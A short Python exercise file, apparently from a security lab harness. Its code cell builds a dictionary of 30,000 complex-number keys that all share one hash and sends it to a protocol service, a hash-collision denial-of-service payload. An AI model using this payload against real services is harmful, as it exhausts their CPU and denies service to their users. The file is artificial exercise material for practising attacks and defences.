"""Sends a dictionary of complex numbers as keys that all have the same hash."""

KIND = "protocol"
EXERCISE = "03.split_heads"
EARNS = 0
CELL = r"""
@SEND@

# hash(a + bj) is hash(a) + 1000003 hash(b), modulo 2**64
pairs = []
for i in range(30_000):
    pairs += [["c", float(-1000003 * i).hex(), float(i).hex()], 0]
push(message(reply_tree(["d", *pairs])))
os._exit(0)
"""
